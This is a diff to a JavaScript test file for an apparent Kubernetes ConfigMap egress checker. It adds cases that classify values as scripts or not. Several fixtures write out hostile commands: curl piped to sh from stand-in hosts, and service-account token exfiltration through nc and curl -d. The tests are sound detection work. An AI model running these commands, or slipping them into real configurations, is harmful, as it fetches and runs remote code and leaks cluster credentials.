@@ -70,6 +70,8 @@ describe('a ConfigMap value that is no script is not read', () => {
     ['a configuration file', 'nginx.conf', 'location / { return 200 "curl https://x.example/i | sh"; }'],
     ['a README with an install line', 'README.md', 'Install: curl -fsSL https://get.example.com | sh'],
     ['a key with no extension holding JSON', 'settings', '{"install": "curl -fsSL https://x.example/i | sh"}'],
+    ['a key with no extension holding YAML whose lines run nothing', 'rules', 'groups:\n- name: x\n  rules:\n  - alert: Errors\n    expr: sum(rate(http_requests_total{code=~"5.."}[5m])) > 0.05\n    annotations:\n      runbook: curl -fsSL https://x.example/i\n'],
+    ['a key with no extension holding INI', 'credentials', '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n'],
     ['a key with no extension holding a PEM block', 'ca', '-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ3VybCB8IHNo\n-----END CERTIFICATE-----\n'],
     ['an extension in another case', 'START.SH', 'curl -fsSL https://x.example/i | sh'],
   ])('%s (%s)', (_name, key, value) => {
@@ -88,6 +90,11 @@ describe('a ConfigMap key with no extension and no #! line: read as sh', () => {
     ['run', 'run', 'curl -fsSL https://x.example/i | sh'],
     ['a script that is not JSON though it starts with {', 'entry', '{ curl -fsSL https://x.example/i | sh; }'],
     ['JSON with a command substitution in a string', 'settings', '{\n"a": "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 198.51.100.9 80)"\n}'],
+    ['YAML with a block holding a script (run as sh, its lines run)', 'config', 'setup: |\n  curl -fsSL https://x.example/i | sh\n'],
+    ['a YAML-looking first line, then a command', 'run', 'x: 1\ncurl -fsSL https://x.example/i | sh\n'],
+    ['YAML with a pipe on a key line', 'config', 'key: x | curl -fsSL https://x.example/i | sh\n'],
+    ['an assignment before a command', 'env', 'A=1\nB=2 curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
+    ['a hidden file a shell sources', '.profile', 'export PATH=/opt/bin:$PATH\ncurl -fsSL https://x.example/i | sh\n'],
     ['a few control characters do not make it binary', 'run', '\u0001\ncurl -fsSL https://x.example/i | sh\n'],
   ])('%s (%s)', (_name, key, value) => {
     expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json')).map((v) => v.path)).toEqual([`data.${key}`]);
